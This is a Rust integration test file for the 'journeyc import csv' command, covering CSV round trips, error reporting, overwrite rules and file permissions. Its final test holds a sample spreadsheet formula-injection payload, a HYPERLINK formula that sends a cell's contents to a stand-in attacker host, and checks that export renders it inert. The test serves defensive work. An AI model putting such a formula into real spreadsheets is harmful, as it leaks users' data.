//! `journeyc import csv` end to end with the real binary: the round trip
//! through `journeyc export --format csv` for every example, precise
//! errors, and files that are written whole or not at all.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

mod common;
#[cfg(unix)]
use common::{chmod, journeyc_with_umask, mode};
use common::{journeyc, names, repo, stderr, stdout, temp_dir};

#[test]
fn export_import_export_gives_the_same_table_for_every_example() {
    let dir = temp_dir("roundtrip");
    let mut names: Vec<String> = std::fs::read_dir(repo().join("examples"))
        .unwrap()
        .filter_map(Result::ok)
        .filter(|e| e.path().is_dir())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert!(names.len() >= 3, "{names:?}");
    for name in &names {
        let example = repo().join("examples").join(name);
        let out = journeyc(
            &["export", "--format", "csv", example.to_str().unwrap()],
            &dir,
        );
        assert_eq!(out.status.code(), Some(0), "{name}: {}", stderr(&out));
        let table = stdout(&out);
        std::fs::write(dir.join(format!("{name}.csv")), &table).unwrap();

        let target = format!("out-{name}");
        let out = journeyc(
            &["import", "csv", &format!("{name}.csv"), "-o", &target],
            &dir,
        );
        assert_eq!(out.status.code(), Some(0), "{name}: {}", stderr(&out));
        assert!(stdout(&out).contains(&format!("{target}/phases.journey")));

        // The files check without errors and are canonically formatted.
        let out = journeyc(&["check", &target, "--color", "never"], &dir);
        assert_eq!(out.status.code(), Some(0), "{name}: {}", stdout(&out));
        let out = journeyc(&["fmt", "--check", &target], &dir);
        assert_eq!(out.status.code(), Some(0), "{name}: {}", stdout(&out));

        let out = journeyc(&["export", "--format", "csv", &target], &dir);
        assert_eq!(out.status.code(), Some(0), "{name}: {}", stderr(&out));
        assert_eq!(stdout(&out), table, "{name}: the table changed");
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

/// The export's header (in English: the column names), read from the
/// binary.
fn header(dir: &Path) -> String {
    let out = journeyc(
        &[
            "export",
            "--lang",
            "en",
            "--format",
            "csv",
            repo().join("examples/retail").to_str().unwrap(),
        ],
        dir,
    );
    stdout(&out).lines().next().unwrap().to_string()
}

#[test]
fn bad_score_unknown_phase_and_misspelt_column_write_nothing() {
    let dir = temp_dir("bad");
    // `owner` misspelt: an error (a column journeyc does not know at all
    // would be ignored with a note, a missing one is empty).
    let columns: Vec<String> = header(&dir)
        .split(',')
        .map(|c| if c == "owner" { "ownr" } else { c })
        .map(String::from)
        .collect();
    let row = |cells: &[(&str, &str)]| {
        columns
            .iter()
            .map(|c| {
                cells
                    .iter()
                    .find(|(k, _)| k == c)
                    .map(|(_, v)| v.to_string())
                    .unwrap_or_default()
            })
            .collect::<Vec<_>>()
            .join(",")
    };
    let table = format!(
        "{}\n{}\n{}\n",
        columns.join(","),
        row(&[
            ("journey", "shop"),
            ("phase_id", "awareness"),
            ("phase_kind", "awareness"),
            ("touchpoint_id", "ads"),
            ("channel", "search"),
            ("experience", "9"),
        ]),
        row(&[
            ("journey", "shop"),
            ("phase_id", "purchase"),
            ("phase_kind", "purchace"),
            ("touchpoint_id", "checkout"),
            ("channel", "web"),
        ]),
    );
    std::fs::write(dir.join("workshop.csv"), table).unwrap();
    let out = journeyc(&["import", "csv", "workshop.csv", "-o", "out"], &dir);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(stdout(&out), "");
    assert_eq!(
        stderr(&out),
        "error: workshop.csv: row 1 (header), column `ownr` (I): unknown column `ownr` (did you mean `owner`?)
error: workshop.csv: row 2, column `experience` (Q): `9` is outside the scale; scores are numbers from 1 to 5, decimals allowed
error: workshop.csv: row 3, column `phase_kind` (D): unknown phase kind `purchace`; expected one of awareness, consideration, decision, purchase, onboarding, usage, loyalty, advocacy, offboarding, custom (did you mean `purchase`?)
error: nothing was written: 3 errors in `workshop.csv`
"
    );
    assert!(!dir.join("out").exists(), "nothing may be written");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn existing_files_need_force_and_stdin_works() {
    let dir = temp_dir("force");
    let out = journeyc(
        &[
            "export",
            "--format",
            "csv",
            repo().join("examples/subscription-loop").to_str().unwrap(),
        ],
        &dir,
    );
    let table = stdout(&out);
    std::fs::create_dir_all(dir.join("out")).unwrap();
    std::fs::write(dir.join("out/phases.journey"), "# mine\n").unwrap();

    let import_stdin = |args: &[&str]| {
        let mut child = Command::new(env!("CARGO_BIN_EXE_journeyc"))
            .args(args)
            .current_dir(&dir)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(table.as_bytes())
            .unwrap();
        child.wait_with_output().unwrap()
    };
    let out = import_stdin(&["import", "csv", "-", "-o", "out"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_eq!(
        stderr(&out),
        "error: `out/phases.journey` exists already; use --force to overwrite\nerror: nothing was written\n"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("out/phases.journey")).unwrap(),
        "# mine\n"
    );
    let names = |d: &Path| {
        let mut v: Vec<String> = std::fs::read_dir(d)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    };
    assert_eq!(names(&dir.join("out")), ["phases.journey"]);

    let out = import_stdin(&["import", "csv", "-", "-o", "out", "--force"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        names(&dir.join("out")),
        ["journey.journey", "personas.journey", "phases.journey"]
    );
    let text = std::fs::read_to_string(dir.join("out/phases.journey")).unwrap();
    assert!(
        text.starts_with("# Imported from <stdin> with `journeyc import csv`."),
        "{text}"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

/// The table of examples/b2b-saas, as `journeyc export --format csv`
/// writes it (CRLF line ends).
fn b2b_table(dir: &Path) -> String {
    let out = journeyc(
        &[
            "export",
            "--format",
            "csv",
            repo().join("examples/b2b-saas").to_str().unwrap(),
        ],
        dir,
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    stdout(&out)
}

/// The reproducer: with `--force` and a folder where a file should go,
/// nothing changes, and the message says so.
#[test]
fn force_with_a_folder_in_the_way_changes_nothing() {
    let dir = temp_dir("import-folder");
    std::fs::write(dir.join("good.csv"), b2b_table(&dir)).unwrap();
    std::fs::create_dir_all(dir.join("out/phases.journey")).unwrap();
    std::fs::write(dir.join("out/journey.journey"), "mine\n").unwrap();
    std::fs::write(dir.join("out/personas.journey"), "mine\n").unwrap();
    let out = journeyc(&["import", "csv", "good.csv", "-o", "out", "--force"], &dir);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_eq!(stdout(&out), "");
    assert_eq!(
        stderr(&out),
        "error: `out/phases.journey` is a folder, not a file; move it away or choose another folder with -o
error: nothing was written; `out/journey.journey`, `out/personas.journey` are unchanged
"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("out/journey.journey")).unwrap(),
        "mine\n"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("out/personas.journey")).unwrap(),
        "mine\n"
    );
    assert_eq!(
        names(&dir.join("out")),
        ["journey.journey", "personas.journey", "phases.journey"]
    );
    assert!(names(&dir.join("out/phases.journey")).is_empty());

    // Without --force, every problem is named at once.
    let out = journeyc(&["import", "csv", "good.csv", "-o", "out"], &dir);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        stderr(&out),
        "error: `out/journey.journey` exists already; use --force to overwrite
error: `out/personas.journey` exists already; use --force to overwrite
error: `out/phases.journey` is a folder, not a file; move it away or choose another folder with -o
error: nothing was written
"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

#[cfg(unix)]
#[test]
fn imported_files_get_ordinary_permissions_and_replaced_ones_keep_theirs() {
    let dir = temp_dir("import-perms");
    std::fs::write(dir.join("good.csv"), b2b_table(&dir)).unwrap();
    for (umask, expected) in [("022", 0o644), ("027", 0o640)] {
        let target = format!("out-{umask}");
        let out = journeyc_with_umask(umask, &["import", "csv", "good.csv", "-o", &target], &dir);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        for name in ["journey.journey", "personas.journey", "phases.journey"] {
            assert_eq!(
                mode(&dir.join(&target).join(name)),
                expected,
                "{umask} {name}"
            );
        }
    }
    // --force keeps the permissions of the files it replaces.
    chmod(&dir.join("out-022/phases.journey"), 0o600);
    std::fs::write(dir.join("out-022/journey.journey"), "mine\n").unwrap();
    let out = journeyc_with_umask(
        "022",
        &["import", "csv", "good.csv", "-o", "out-022", "--force"],
        &dir,
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(mode(&dir.join("out-022/phases.journey")), 0o600);
    assert_eq!(mode(&dir.join("out-022/journey.journey")), 0o644);
    assert_ne!(
        std::fs::read_to_string(dir.join("out-022/journey.journey")).unwrap(),
        "mine\n"
    );

    // A read-only file is not replaced, even with --force.
    chmod(&dir.join("out-027/personas.journey"), 0o444);
    std::fs::write(dir.join("out-027/phases.journey"), "mine\n").unwrap();
    let out = journeyc(
        &["import", "csv", "good.csv", "-o", "out-027", "--force"],
        &dir,
    );
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        stderr(&out),
        "error: `out-027/personas.journey` is read-only; make it writable (`chmod u+w`) or choose another folder with -o
error: nothing was written; `out-027/journey.journey`, `out-027/phases.journey` are unchanged
"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("out-027/phases.journey")).unwrap(),
        "mine\n"
    );
    assert_eq!(
        names(&dir.join("out-027")),
        ["journey.journey", "personas.journey", "phases.journey"]
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

/// A mistake in row N of a table as the export writes it (CRLF) is
/// reported at row N (and at its line of the file, when a cell with a
/// line break before it makes that differ).
#[test]
fn a_mistake_in_row_n_is_reported_at_row_n() {
    let dir = temp_dir("import-rows");
    let table = b2b_table(&dir);
    let mut rows: Vec<String> = table.split("\r\n").map(String::from).collect();
    let header: Vec<&str> = rows[0].split(',').collect();
    let column = header.iter().position(|c| *c == "touchpoint_id").unwrap();
    assert_eq!(column, 4);
    // Row 4 of the spreadsheet: the id becomes `not an id`.
    let mut cells: Vec<String> = rows[3].splitn(6, ',').map(String::from).collect();
    cells[4] = "not an id".into();
    rows[3] = cells.join(",");
    // And a blank line after row 6 makes the last row's number one more.
    let last = rows.len() - 2;
    let mut cells: Vec<String> = rows[last].splitn(6, ',').map(String::from).collect();
    cells[4] = "1st".into();
    rows[last] = cells.join(",");
    rows.insert(6, String::new());
    std::fs::write(dir.join("bad.csv"), rows.join("\r\n")).unwrap();
    let out = journeyc(&["import", "csv", "bad.csv", "-o", "out"], &dir);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let err = stderr(&out);
    let lines: Vec<&str> = err.lines().collect();
    assert!(
        lines[0].starts_with(
            "error: bad.csv: row 4, column `touchpoint_id` (E): `not an id` is not an id"
        ),
        "{err}"
    );
    // Its row, and its line: one more for the blank line, and more for
    // the line breaks inside cells before it.
    let n = last + 2;
    let inner_breaks = table.matches('\n').count() - table.matches("\r\n").count();
    assert!(
        inner_breaks > 0,
        "examples/b2b-saas has a cell with line breaks"
    );
    assert!(
        lines[1].starts_with(&format!(
            "error: bad.csv: row {n} (line {}), column `touchpoint_id` (E): `1st` is not an id",
            n + inner_breaks
        )),
        "{err}"
    );
    assert!(!dir.join("out").exists());
    std::fs::remove_dir_all(&dir).unwrap();
}

/// Formula injection: hostile texts leave as inert cells and come back
/// as they were.
#[test]
fn formulas_are_exported_inert_and_imported_as_they_were() {
    let dir = temp_dir("import-formulas");
    std::fs::create_dir(dir.join("ws")).unwrap();
    let title = r#"=HYPERLINK("http://evil.invalid/?d="&B2,"Open")"#;
    std::fs::write(
        dir.join("ws/a.journey"),
        format!(
            "phase p \"Phase\" {{\n  touchpoint t {title:?} {{\n    channel web online\n    says \"@SUM(1)\", \"+1+1\", \"'quoted\"\n    description \"  spaced  \"\n  }}\n}}\n"
        ),
    )
    .unwrap();
    let out = journeyc(&["export", "--format", "csv", "ws"], &dir);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let table = stdout(&out);
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let rec = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| {
        rec.get(headers.iter().position(|h| h == name).unwrap())
            .unwrap()
            .to_string()
    };
    assert_eq!(cell("touchpoint_title"), format!("'{title}"));
    assert_eq!(cell("copy"), "'@SUM(1); +1+1; 'quoted");
    assert_eq!(cell("description"), "  spaced  ");
    std::fs::write(dir.join("t.csv"), &table).unwrap();
    let out = journeyc(&["import", "csv", "t.csv", "-o", "back"], &dir);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let back = std::fs::read_to_string(dir.join("back/phases.journey")).unwrap();
    assert!(back.contains(&format!("touchpoint t {title:?}")), "{back}");
    assert!(
        back.contains(r#"says "@SUM(1)", "+1+1", "'quoted""#),
        "{back}"
    );
    assert!(back.contains(r#"description "  spaced  ""#), "{back}");
    let out = journeyc(&["export", "--format", "csv", "back"], &dir);
    assert_eq!(stdout(&out), table);
    std::fs::remove_dir_all(&dir).unwrap();
}
